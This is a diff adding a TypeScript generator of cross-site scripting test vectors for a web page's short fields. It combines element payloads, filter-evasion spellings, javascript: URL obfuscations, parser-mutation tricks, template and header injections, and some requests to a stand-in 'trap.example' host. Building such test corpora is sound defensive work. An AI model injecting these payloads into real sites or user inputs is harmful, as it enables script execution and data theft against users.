@@ -1,0 +1,284 @@
+/** Where a careless page would have put the text. */
+export type NaiveContext =
+  | "content"
+  | "attribute"
+  | "bare-attribute"
+  | "link"
+  | "script"
+  | "style"
+  | "title"
+  | "textarea"
+  | "comment"
+  | "template"
+  | "cdata";
+
+/** A text that tries to become script. Had it run, it would have called `__ran` or `alert` or asked the trap for something, each time with its number. */
+export type ScriptVector = {
+  readonly number: number;
+  readonly text: string;
+  readonly context: NaiveContext;
+};
+
+/** A host that exists nowhere. */
+export const TRAP_HOST = "trap.example";
+/** So that a vector fits each short field of a trip. */
+const MAX_LENGTH = 300;
+
+type Written = readonly [context: NaiveContext, text: string];
+
+/** Elements that act without being touched; RUN is the script. */
+const SELF_STARTERS = [
+  "<script>RUN</script>",
+  "<img src=x onerror=RUN>",
+  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>",
+  "<svg onload=RUN>",
+  "<svg><script>RUN</script></svg>",
+  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+  "<svg><set onbegin=RUN attributeName=x>",
+  "<svg><image href=x onerror=RUN>",
+  "<body onload=RUN>",
+  "<input autofocus onfocus=RUN>",
+  "<button autofocus onfocus=RUN>x</button>",
+  "<a href=# autofocus onfocus=RUN>x</a>",
+  "<details open ontoggle=RUN><summary>x</summary></details>",
+  "<video src=x onerror=RUN></video>",
+  "<video><source src=x onerror=RUN></video>",
+  "<audio src=x onerror=RUN></audio>",
+  "<iframe onload=RUN></iframe>",
+  "<iframe src=javascript:RUN></iframe>",
+  "<object data=x onerror=RUN></object>",
+  "<embed src=x onload=RUN>",
+  "<link rel=stylesheet href=x onerror=RUN>",
+  "<style onload=RUN></style>",
+  "<script src=x onerror=RUN></script>",
+  "<script src=data:text/javascript,RUN></script>",
+  "<marquee onstart=RUN>x</marquee>",
+  "<x contenteditable autofocus onfocus=RUN>x</x>",
+  "<math><mtext><img src=x onerror=RUN></mtext></math>",
+  "<form><button formaction=javascript:RUN autofocus onfocus=RUN>x</button></form>",
+] as const;
+
+/** Ways of writing the same element so that a filter looks past it. */
+const SPELLINGS: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) => html.replace(/<[a-z]+|on[a-z]+=/g, (part) => part.toUpperCase()),
+  (html) => html.replace(/<[a-z]+|on[a-z]+=/g, mixCase),
+  (html) => html.replace(/ (?=on|src|href|data|auto)/g, "/"),
+  (html) => html.replaceAll(" ", "\n"),
+  (html) => html.replaceAll(" ", "\t\f"),
+  (html) => html.replace(/on([a-z]+)=([^ >]+)/g, 'on$1="$2"'),
+  (html) => html.replace(/on([a-z]+)=([^ >]+)/g, "on$1 = '$2'"),
+  (html) => html.replaceAll("=RUN", "=&#95;&#x5f;&#114;an(NUM)"),
+  (html) => `<<${html}`,
+  (html) => `<!--><!-- -->${html}`,
+  (html) => html.replace(/>$/, ""),
+];
+
+/** What the script says; the last ones reach out. */
+const SCRIPTS = [
+  "__ran(NUM)",
+  "top['__r'+'an'](NUM)",
+  "\\u005f_ran(NUM)",
+  "__ran`NUM`",
+  "[NUM].map(__ran)",
+  "setTimeout('__ran(NUM)')",
+  "Function('__ran(NUM)')()",
+  "eval('__r'+'an(NUM)')",
+  "alert(NUM)",
+  "(0,alert)(NUM)",
+  "fetch('//trap.example/NUM')",
+  "new(Image)().src='//trap.example/NUM'",
+  "import('//trap.example/NUM')",
+  "location='//trap.example/NUM'",
+] as const;
+
+/** Ends of the context a careless page puts text into. */
+const BREAKS: readonly Written[] = [
+  ["attribute", '">'],
+  ["attribute", '"/>'],
+  ["attribute", '&quot;>">'],
+  ["bare-attribute", " >"],
+  ["script", "</script>"],
+  ["script", "</SCRIPT\n>"],
+  ["script", '"}</script>'],
+  ["style", "</style>"],
+  ["style", "}</style \t>"],
+  ["title", "</title>"],
+  ["textarea", "</textarea>"],
+  ["comment", "-->"],
+  ["comment", "--!>"],
+  ["template", "</template>"],
+  ["cdata", "]]>"],
+  ["content", "</p></div></body>"],
+  ["content", "</noscript></xmp></iframe></svg></math></select>"],
+];
+
+/** Texts that stay inside an attribute, a script or an address. */
+const INSIDE: readonly Written[] = [
+  ["attribute", '" autofocus onfocus=RUN x="'],
+  ["attribute", '" onanimationstart=RUN style="animation:x 1s" x="'],
+  ["attribute", '"onmouseover="RUN'],
+  ["bare-attribute", "x autofocus onfocus=RUN"],
+  ["bare-attribute", "x onpointerenter=RUN "],
+  ["script", '";RUN;//'],
+  ["script", '";RUN;"'],
+  ["script", '"+RUN+"'],
+  ["script", '\\";RUN;//'],
+  ["script", '"\nRUN\n"'],
+  ["script", '\u2028";RUN//'],
+  ["script", '"}];RUN;[{"x":"'],
+  ["style", "x}@import '//trap.example/NUM';x{"],
+  ["style", "x}*{background:url(//trap.example/NUM)}"],
+];
+
+const LINKS = [
+  "javascript:RUN",
+  "JaVaScRiPt:RUN",
+  "java\tscript:RUN",
+  "java\nscript:RUN",
+  "java\rscript:RUN",
+  "\u0001javascript:RUN",
+  " \n javascript:RUN",
+  "\u001fjavascript:RUN",
+  "javascript\t:RUN",
+  "&#106;avascript:RUN",
+  "&#x6A&#x61vascript:RUN",
+  "javascript&colon;RUN",
+  "java&Tab;script:RUN",
+  "java&NewLine;script&colon;RUN",
+  "javascript://x%0aRUN",
+  "javascript:/*-->*/RUN",
+  "javascript:void(0);RUN",
+  "javascript:%5f_ran(NUM)",
+  "data:text/html,<script>RUN</script>",
+  "data:image/svg+xml,<svg onload=RUN>",
+  "vbscript:RUN",
+  "livescript:RUN",
+  "feed:javascript:RUN",
+  "view-source:javascript:RUN",
+  "blob:javascript:RUN",
+  "jav&#x0A;ascript:RUN",
+  "ｊａｖａｓｃｒｉｐｔ:RUN",
+  "javascript\u200b:RUN",
+  "//trap.example/NUM",
+  "\\\\trap.example\\NUM",
+  "/\\trap.example/NUM",
+  "https:trap.example/NUM",
+  "http://trap.example/NUM",
+  "file://trap.example/NUM",
+] as const;
+
+/** Harmless to one parser, script to the next. */
+const MUTATIONS = [
+  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
+  '<svg></p><style><a title="</style><img src=x onerror=RUN>">',
+  '<math></p><style><!--</style><img title="--><img src=x onerror=RUN>">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
+  "<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror=RUN>]]>",
+  "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
+  "<svg><title><![CDATA[</title><img src=x onerror=RUN>]]></svg>",
+  "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
+  "<template><img src=x></template><img src=x onerror=RUN>",
+  "<select><option><style></option></select><img src=x onerror=RUN></style>",
+  "<table><tr><img src=x onerror=RUN></tr></table>",
+  "<textarea><!--</textarea><img src=x onerror=RUN>-->",
+  "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
+  "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
+  "<svg><desc><img src=x onerror=RUN></desc></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x'></svg>",
+  "<iframe srcdoc='&lt;script&gt;parent.RUN&lt;/script&gt;'></iframe>",
+  "<iframe srcdoc=\"<img src=x onerror='parent.RUN'>\"></iframe>",
+  "<div style='background:url(//trap.example/NUM)'>x</div>",
+  "<style>@import '//trap.example/NUM';</style>",
+  "<link rel=stylesheet href=//trap.example/NUM>",
+  "<link rel=prefetch href=//trap.example/NUM>",
+  "<meta http-equiv=refresh content='0;url=//trap.example/NUM'>",
+  "<base href=//trap.example/NUM/><img src=x>",
+  "<img srcset=//trap.example/NUM>",
+  "<video poster=//trap.example/NUM></video>",
+  "<input type=image src=//trap.example/NUM>",
+  "<table background=//trap.example/NUM>",
+  "<form action=//trap.example/NUM><input name=x>",
+] as const;
+
+/** Nothing to a parser of HTML; to something that decodes, fills in or renders before it, a great deal. */
+const OTHER_LANGUAGES = [
+  "&lt;script&gt;RUN&lt;/script&gt;",
+  "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
+  "&#60;img src=x onerror=RUN&#62;",
+  "%3Cscript%3ERUN%3C/script%3E",
+  "%253Cscript%253ERUN%253C/script%253E",
+  "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
+  "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
+  "+ADw-script+AD4-RUN+ADw-/script+AD4-",
+  "＜script＞RUN＜/script＞",
+  "﹤img src=x onerror=RUN﹥",
+  "<ſcript>RUN</ſcript>",
+  "<scr\u0000ipt>RUN</scr\u0000ipt>",
+  "<\u200bimg src=x onerror=RUN>",
+  "\u202e>RUN=rorreno x=crs gmi<\u202c",
+  "<img\u00a0src=x\u00a0onerror=RUN>",
+  "<img src=x on\u2028error=RUN>",
+  "\ud800<img src=x onerror=RUN>",
+  "![x](//trap.example/NUM)",
+  "![x](javascript:RUN)",
+  '![x](x"onerror="RUN)',
+  "[x](javascript:RUN)",
+  "[x](data:text/html,<script>RUN</script>)",
+  "[x]: javascript:RUN\n[x]",
+  "<javascript:RUN>",
+  "```html\n<img src=x onerror=RUN>\n```",
+  "{{constructor.constructor('RUN')()}}",
+  "{{RUN}}",
+  "${RUN}",
+  "#{RUN}",
+  "<%= RUN %>",
+  "{% RUN %}",
+  "[[${RUN}]]",
+  "<div ng-app ng-init=RUN>x</div>",
+  "<div x-data x-init=RUN>x</div>",
+  "<div v-html='RUN'>x</div>",
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
+  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"RUN"}}',
+  '"},{"type":"saved","tripId":"<img src=x onerror=RUN>"},{"x":"',
+  '\n\ndata: {"type":"failed","text":"<img src=x onerror=RUN>"}\n\n',
+  "\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
+  "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></x>",
+  "<!DOCTYPE x [<!ENTITY y SYSTEM '//trap.example/NUM'>]><x>&y;</x>",
+] as const;
+
+/** Every vector, no text twice. */
+export function scriptVectors(): ScriptVector[] {
+  const shortScripts = SCRIPTS.slice(0, 4);
+  const written: Written[] = [
+    ...SELF_STARTERS.flatMap((html) => SPELLINGS.map((spell): Written => ["content", spell(html)])),
+    ...SCRIPTS.map((script): Written => ["content", `<img src=x onerror="${script}">`]),
+    ...SCRIPTS.map((script): Written => ["content", `<script>${script}</script>`]),
+    ...BREAKS.flatMap(([context, end]) =>
+      SELF_STARTERS.slice(0, 4).map((html): Written => [context, end + html]),
+    ),
+    ...INSIDE.flatMap(([context, text]) =>
+      shortScripts.map((script): Written => [context, text.replaceAll("RUN", script)]),
+    ),
+    ...LINKS.map((link): Written => ["link", link]),
+    ...LINKS.map((link): Written => ["content", `<a href="${link}">x</a>`]),
+    ...MUTATIONS.map((html): Written => ["content", html]),
+    ...OTHER_LANGUAGES.map((text): Written => ["content", text]),
+  ];
+  const known = new Set<string>();
+  const vectors: ScriptVector[] = [];
+  for (const [context, template] of written) {
+    const number = vectors.length + 1;
+    if (known.has(template)) continue;
+    known.add(template);
+    const text = template.replaceAll("RUN", "__ran(NUM)").replaceAll("NUM", String(number));
+    if (text.length > MAX_LENGTH) throw new Error(`too long for a field: ${text}`);
+    vectors.push({ number, text, context });
+  }
+  return vectors;
+}
+
+function mixCase(text: string): string {
+  return [...text].map((letter, at) => (at % 2 === 0 ? letter : letter.toUpperCase())).join("");
+}
